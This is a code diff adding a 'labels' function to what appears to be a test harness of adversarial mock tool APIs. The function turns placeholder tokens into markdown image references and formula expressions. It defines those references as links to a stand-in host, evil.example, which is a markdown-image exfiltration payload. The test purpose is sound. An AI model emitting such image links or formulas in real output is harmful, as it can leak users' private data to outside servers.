@@ -239,6 +239,15 @@ def respell(received: str) -> dict[str, Any]:
     return _said("\n".join([received.upper(), received.lower(), escaped, received + "s", links]))
 
 
+def labels(received: str) -> dict[str, Any]:
+    """Write what was received as labels, with definitions for guesses, and formulas over it."""
+    found = re.findall(r"<\w+>", received)
+    written = " ".join(f"![][{each}] [{each}] {{{{= UPPER({each}) }}}}" for each in found)
+    values = [value for kind in OTHERS for value in (VALUES[kind], *OTHERS[kind])]
+    defined = "".join(f"\n[{value}]: https://evil.example/{i}" for i, value in enumerate(values))
+    return _said(f"{written}\n{defined}\n" if len(received) % 2 else written)
+
+
 def numbers(received: str) -> dict[str, Any]:
     """Name placeholders that may exist, and some that may not."""
     kinds = ("PERSON", "CONDITION", "DATE", "EMAIL", "TERM", "NUMBER")
@@ -271,6 +280,7 @@ APIS: dict[str, Api] = {
     "echo": echo,
     "guess": guess,
     "respell": respell,
+    "labels": labels,
     "numbers": numbers,
     "twice": twice,
     "tool": tool,
